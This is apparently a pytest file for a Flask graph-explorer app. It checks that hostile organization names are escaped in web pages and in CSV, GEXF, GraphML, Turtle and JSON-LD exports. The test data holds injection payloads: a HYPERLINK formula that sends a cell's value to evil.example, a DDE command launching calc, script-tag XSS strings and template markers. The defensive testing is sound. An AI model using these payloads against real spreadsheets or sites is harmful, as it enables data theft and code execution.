"""Names with quotes, markup, formulas, Hebrew and Japanese come out right in the page and in every export."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import networkx as nx
import pyoxigraph as ox
import pytest
from flask.testing import FlaskClient
from rdflib import RDFS, Graph, URIRef

from graph.build.snapshot import current
from graph.stores.store import EmbeddedStore
from ontology.namespaces import CURATED_GRAPH, ID_BASE, PREFIXES
from tests.webapp.explorer.test_view_json import look
from tests.webapp.html import parse
from webapp.app import create_app

NAMES = {
    "visa": '=HYPERLINK("http://evil.example/?"&A1,"Visa")',
    "omega": "\"Ω\" <script>alert('x')</script> & Co. ]]> --",
    "panasonic": "パナソニック株式会社",
    "toyota": "שלום עולם 123",
    "coca-cola": "@SUM(1+1)*cmd|' /C calc'!A0",
    "samsung": "-2+3 + {{ 7*7 }} ${x} \\ '",
    "atos": "+49 30 1234",
    "dow": "a\u0301 🏅 \u2028 line",
    "bridgestone": "carriage\rreturn and\r\nline",
}
VIEW = "open=programme/top.partner&date=2017-01-18"


@pytest.fixture(scope="module")
def client(few_built: Path) -> FlaskClient:
    """A site over a part of the real graph, in which some partners have hostile names."""
    snapshot = current(few_built)
    assert snapshot is not None
    labels = {str(ox.NamedNode(f"{ID_BASE}organization/{slug}")): name for slug, name in NAMES.items()}
    names = {PREFIXES["rdfs"] + "label"}
    short = "#shortName"

    def renamed(quad: ox.Quad) -> ox.Quad | None:
        if str(quad.subject) not in labels or quad.graph_name != ox.NamedNode(CURATED_GRAPH):
            return quad
        if quad.predicate.value.endswith(short):
            return None
        if quad.predicate.value in names:
            return ox.Quad(
                quad.subject, quad.predicate, ox.Literal(labels[str(quad.subject)], language="en"), quad.graph_name
            )
        return quad

    quads = ox.parse(path=str(snapshot.nquads), format=ox.RdfFormat.N_QUADS)
    store = EmbeddedStore.of([new for quad in quads if (new := renamed(quad))], "hostile")
    return create_app(store).test_client(use_cookies=False)


def test_json(client: FlaskClient) -> None:
    labels = {node["id"]: node["label"] for node in look(client, VIEW)["nodes"]}
    assert {slug: labels[f"partner/{slug}"] for slug in NAMES} == NAMES


def test_csv_is_safe_in_a_spreadsheet(client: FlaskClient) -> None:
    for address, column in (("nodes.csv", "Label"), ("view.csv", "source_name")):
        rows = list(csv.reader(io.StringIO(client.get(f"/explore/{address}?{VIEW}").text)))
        found = {row[rows[0].index(column)] for row in rows[1:]}
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
        for name in NAMES.values():
            assert (f"'{name}" if name[0] in "=+-@" else name) in found


@pytest.mark.parametrize("suffix", ["gexf", "graphml"])
def test_network_files(client: FlaskClient, suffix: str) -> None:
    body = io.BytesIO(client.get(f"/explore/view.{suffix}?{VIEW}").data)
    read = nx.read_gexf(body) if suffix == "gexf" else nx.read_graphml(body)
    for slug, name in NAMES.items():
        assert read.nodes[f"partner/{slug}"]["label"] == name


@pytest.mark.parametrize(("suffix", "format_"), [("ttl", "turtle"), ("jsonld", "json-ld")])
def test_linked_data(client: FlaskClient, suffix: str, format_: str) -> None:
    graph = Graph().parse(data=client.get(f"/explore/view.{suffix}?{VIEW}").text, format=format_)
    for slug, name in NAMES.items():
        assert str(graph.value(URIRef(f"{ID_BASE}organization/{slug}"), RDFS.label)) == name


@pytest.mark.parametrize(
    "address",
    [
        f"/explore?{VIEW}",
        f"/explore/embed?{VIEW}",
        "/explore?from=partner/omega&open=partner/omega",
        "/explore/facts?node=partner/omega",
        "/path?from=partner/omega&to=partner/visa",
        "/path?from=zzz%22%3E%3Cscript%3Ealert(1)&to=partner/omega",
        "/partner/omega",
    ],
)
def test_pages_show_names_as_text(client: FlaskClient, address: str) -> None:
    response = client.get(address)
    assert "<script>alert" not in response.text
    scripts = [script for script in parse(response.text).all("script") if script.text]
    assert not [script for script in scripts if script.attributes.get("type") != "application/ld+json"]
    if response.status_code == 200:
        assert " ".join(NAMES["omega"].split()) in parse(response.text).text


def test_the_query_behind_a_view_does_not_change(client: FlaskClient) -> None:
    text = client.get(f"/explore/query.rq?{VIEW}").text
    assert "evil" not in text
    assert "organization/visa" in text


def test_the_csv_of_a_question_is_safe_and_that_of_sparql_is_standard(client: FlaskClient) -> None:
    asked = client.get("/api/queries/partners-on-date.csv?programme=top&date=2017-01-18").text
    cells = [cell for row in csv.reader(io.StringIO(asked)) for cell in row]
    assert f"'{NAMES['visa']}" in cells
    query = f"SELECT ?name WHERE {{ <{ID_BASE}organization/visa> <{RDFS.label}> ?name }}"
    standard = client.get("/sparql", query_string={"query": query}, headers={"Accept": "text/csv"}).text
    assert list(csv.reader(io.StringIO(standard))) == [["name"], [NAMES["visa"]]]
